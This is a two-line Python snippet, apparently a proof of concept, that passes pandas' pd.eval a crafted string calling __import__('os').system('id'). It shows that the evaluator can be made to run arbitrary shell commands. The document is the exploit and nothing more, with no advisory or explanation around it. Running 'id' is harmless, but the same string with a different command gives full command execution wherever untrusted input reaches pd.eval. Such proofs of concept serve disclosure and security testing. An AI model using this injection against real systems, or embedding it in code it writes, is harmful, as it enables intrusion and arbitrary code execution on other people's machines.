import pandas as pd
pd.eval("@__import__('os').system('id')")
